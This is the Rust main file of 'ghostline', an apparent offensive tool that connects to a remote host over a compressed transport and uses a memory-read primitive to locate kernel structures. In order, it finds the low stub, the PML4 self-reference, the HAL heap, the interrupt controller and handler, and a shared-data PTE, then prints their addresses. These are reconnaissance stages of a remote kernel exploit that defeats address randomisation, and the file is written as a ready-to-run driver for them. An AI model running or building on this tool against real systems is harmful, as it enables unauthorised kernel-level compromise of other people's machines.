//! ghostline: remote kernel memory discovery over a compressed transport.
//!
//!   ghostline <host>
//!
//! Connects to the peer, locates the low stub, the self-referencing page
//! table slot and the interrupt controller, then reports what it found.

use anyhow::{bail, Context, Result};

use ghostline::{MemoryPrimitive, Target, TranslationContext, Translator};
use ghostline_core::config::{GhostConfig, SHARED_DATA_VA};

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    if let Err(e) = GhostConfig::write_default_if_missing() {
        tracing::warn!(error = %e, "failed to write default config");
    }
    let mut config = GhostConfig::load().unwrap_or_else(|e| {
        tracing::warn!(error = %e, "failed to load config, using defaults");
        GhostConfig::default()
    });

    if let Some(host) = std::env::args().nth(1) {
        config.target.host = host;
    }
    if config.target.host.is_empty() {
        bail!("no target host: pass one as the first argument or set GHOSTLINE_TARGET__HOST");
    }

    let target = Target::from_config(&config.target, &config.primitive);
    tracing::info!(%target, "ghostline starting");

    let primitive = MemoryPrimitive::new(target, config.primitive.clone(), config.layout.clone());
    let mut translator = Translator::new(primitive, config.discovery.clone(), config.layout.clone());
    let mut ctx = TranslationContext::default();

    translator
        .find_low_stub(&mut ctx)
        .await
        .context("failed to locate low stub")?;
    translator
        .find_pml4_selfref(&mut ctx)
        .await
        .context("failed to locate page table self-reference")?;
    translator
        .scan_heap(&mut ctx)
        .await
        .context("failed to locate interrupt controller")?;

    let pml4 = ctx.pml4()?;
    let selfref = ctx.pml4_selfref()?;
    let hal_heap = ctx.hal_heap()?;
    let controller = ctx.interrupt_controller()?;
    let handler = ctx.interrupt_handler()?;
    let shared_pte = ctx.pte_address(SHARED_DATA_VA)?;

    tracing::info!(
        pml4 = format_args!("{pml4:#x}"),
        selfref = format_args!("{selfref:#x}"),
        hal_heap = format_args!("{hal_heap:#x}"),
        controller = format_args!("{controller:#x}"),
        handler = format_args!("{handler:#x}"),
        shared_pte = format_args!("{shared_pte:#x}"),
        "discovery complete"
    );

    println!("pml4                  {pml4:#018x}");
    println!("pml4 self-reference   {selfref:#x}");
    println!("hal heap              {hal_heap:#018x}");
    println!("interrupt controller  {controller:#018x}");
    println!("interrupt handler     {handler:#018x}");
    println!("shared data pte       {shared_pte:#018x}");

    Ok(())
}
